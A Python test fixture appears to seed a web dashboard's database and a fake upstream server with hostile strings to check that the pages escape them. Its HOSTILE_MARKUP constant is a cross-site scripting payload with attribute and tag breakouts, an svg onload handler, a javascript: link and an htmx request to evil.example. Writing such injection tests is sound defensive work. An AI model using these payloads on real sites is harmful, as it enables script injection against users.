"""The pages of an agent whose database has hostile texts wherever a page shows a text from outside."""

from __future__ import annotations

import json
import os
import threading
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from datetime import timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from faults.proxy import Proxy, running_proxy
from smith_lab.proxmox.certificates import CertificateAuthority
from sqlalchemy import update
from support.databases import migrated_sqlite_file
from support.web_jobs import HOSTILE, Filled, end_run, fill, set_story
from support.web_world import NO_PROXMOX, TOKEN, PagesSite, running_pages

from executor.database import audit_queries, operator_changes, pause_scopes, pauses, queries
from executor.database.engine import read_only_session, transaction
from executor.database.tables.agents import AgentProcessRow, CriticalJob
from executor.database.tables.jobs import Job
from executor.database.tables.web_sessions import WebSession
from executor.database.times import utc_now
from executor.drift.facts import DriftKind, Finding, Repair

ADOPTED_SERVICE = "77777777-0000-4000-8000-000000000001"
#: Several ways to leave an attribute, an element or a script, and an attribute that htmx would send a request for.
HOSTILE_MARKUP = (
    HOSTILE + """'`<svg onload=window.hacked=1><a href="javascript:window.hacked=1" hx-get="//evil.example/h">x</a>"""
)


@dataclass(frozen=True)
class PreparedSite:
    """Three servers of the pages on one database: with a login, with TLS, and for local users without a login."""

    site: PagesSite
    secured: PagesSite
    local: PagesSite
    filled: Filled
    proxy: Proxy

    def values_for_tests(self) -> dict[str, Any]:
        """Return the addresses of the pages, the token, and the ids of the jobs."""
        jobs = {name: getattr(self.filled, name) for name in ("completed", "failed", "running", "pending")}
        return {
            "url": f"http://127.0.0.1:{self.proxy.port}",
            "directUrl": self.site.url,
            "securedUrl": self.secured.url.replace("http://", "https://"),
            "localUrl": self.local.url,
            "token": TOKEN,
            "jobs": jobs,
            "hostile": HOSTILE,
        }

    def functions(self) -> dict[str, Callable[..., Any]]:
        """Return the functions that the tests in JavaScript can call, by path."""
        return {
            "prepared/proxy": self.proxy.set_mode,
            "prepared/print": self.print_lines,
            "prepared/story": lambda text: set_story(self.site.engine, self.filled.running, text=text),
            "prepared/end": lambda: end_run(self.site.engine, self.filled.running),
            "prepared/job": self.read_job,
            "prepared/audit": self.audit_entries,
            "prepared/wait": self.postpone,
            "prepared/end-sessions": self.end_sessions,
        }

    def print_lines(self, first: int, count: int) -> None:
        """Append numbered lines to the output of the running job."""
        with self.filled.output.open("a", encoding="utf-8") as output:
            output.writelines(f"line {number}\n" for number in range(first, first + count))

    def read_job(self, number: int) -> dict[str, Any]:
        with read_only_session(self.site.engine) as session:
            job = queries.get_one_job(session, number)
            waits = job.available_at is not None and job.available_at > utc_now()
            return {"status": job.status, "error": job.error_code, "waits": waits}

    def audit_entries(self) -> list[list[str]]:
        """Return who has changed what, the newest first."""
        with read_only_session(self.site.engine) as session:
            return [[entry.who, entry.verb, entry.reason or ""] for entry in audit_queries.list_entries(session)]

    def postpone(self, number: int) -> None:
        """Make a job wait for an hour before its next attempt."""
        with transaction(self.site.engine) as session:
            later = utc_now() + timedelta(hours=1)
            session.execute(update(Job).where(Job.id == number).values(available_at=later))

    def end_sessions(self) -> None:
        with transaction(self.site.engine) as session:
            session.query(WebSession).delete()


class _HostileServer(BaseHTTPRequestHandler):
    """Answers each request with hostile texts, as a FulcrumCore under an attacker's control could."""

    def _answer(self) -> None:
        content = json.dumps(
            {"error": HOSTILE_MARKUP, "detail": HOSTILE_MARKUP, "name": HOSTILE_MARKUP, "status": HOSTILE_MARKUP}
        ).encode()
        self.send_response(400)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    do_GET = do_POST = _answer

    def log_message(self, format: str, *args: Any) -> None:
        """Print nothing."""


@contextmanager
def hostile_fulcrum() -> Iterator[None]:
    """Run a hostile FulcrumCore. The environment of this process names its address, which the doctor's checks read."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _HostileServer)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    settings = {
        "FULCRUM_API_URL": f"http://127.0.0.1:{server.server_port}",
        "FULCRUM_API_TOKEN": "not-a-secret-of-ours",
    }
    os.environ.update(settings | NO_PROXMOX)
    try:
        yield
    finally:
        for name in settings | NO_PROXMOX:
            os.environ.pop(name, None)
        server.shutdown()


@contextmanager
def prepared_site(folder: Path) -> Iterator[PreparedSite]:
    """Serve the pages while the block runs."""
    folder.mkdir()
    database = migrated_sqlite_file(folder)
    certificate, key = CertificateAuthority(folder).issue("smith", ["localhost", "127.0.0.1"])
    tls = {"SMITH_HTTP_TLS_CERTIFICATE": str(certificate), "SMITH_HTTP_TLS_KEY": str(key)}
    with ExitStack() as stack:
        stack.enter_context(hostile_fulcrum())
        site = stack.enter_context(running_pages(folder, database))
        secured = stack.enter_context(running_pages(folder, database, **tls))
        local = stack.enter_context(running_pages(folder, database, SMITH_HTTP_TOKEN="", SMITH_HTTP_LOCAL_PAGES="true"))
        filled = fill(site.engine, folder)
        _add_hostile_rows(site, filled)
        for pages in (site, secured, local):
            object.__setattr__(pages.view, "list_drift_findings", _findings)
        proxy = stack.enter_context(running_proxy(site.handle.port))
        yield PreparedSite(site, secured, local, filled, proxy)


def _add_hostile_rows(site: PagesSite, filled: Filled) -> None:
    """Write hostile texts into the rows that `fill` leaves out."""
    now = utc_now()
    with transaction(site.engine) as session:
        session.add(
            AgentProcessRow(
                id="hostile-1",
                host=HOSTILE_MARKUP[:100],
                pid=2,
                version=HOSTILE_MARKUP[:20],
                concurrency=1,
                concurrency_wanted=1,
                started_at=now,
                seen_at=now,
                draining=False,
                fences=False,
                proxmox_checked_at=now,
                proxmox_error=HOSTILE_MARKUP,
            )
        )
        session.add(
            CriticalJob(
                name=HOSTILE_MARKUP[:40],
                interval_s=60,
                due_at=now,
                last_error=HOSTILE_MARKUP,
                failures=2,
                runs=3,
                last_finished_at=now,
            )
        )
        operator_changes.retry_job(session, filled.pending, who=HOSTILE_MARKUP[:90])
        pauses.start(
            session, who=HOSTILE_MARKUP[:90], reason=HOSTILE_MARKUP, scope=f"{pause_scopes.NODE_SCOPE_PREFIX}hostile-1"
        )


def _findings() -> list[Finding]:
    gone_vm = Finding(
        kind=DriftKind.VM_GONE,
        service_id="5",
        vmid=100123,
        text=f"gone {HOSTILE_MARKUP}",
        name=HOSTILE_MARKUP,
        node=HOSTILE_MARKUP,
    )
    unmapped_vm = Finding(
        kind=DriftKind.UNMAPPED_VM,
        service_id=ADOPTED_SERVICE,
        vmid=100555,
        text=HOSTILE_MARKUP,
        node="pve1",
        name="web-7",
        repair=Repair.ADOPT,
    )
    return [gone_vm, unmapped_vm]
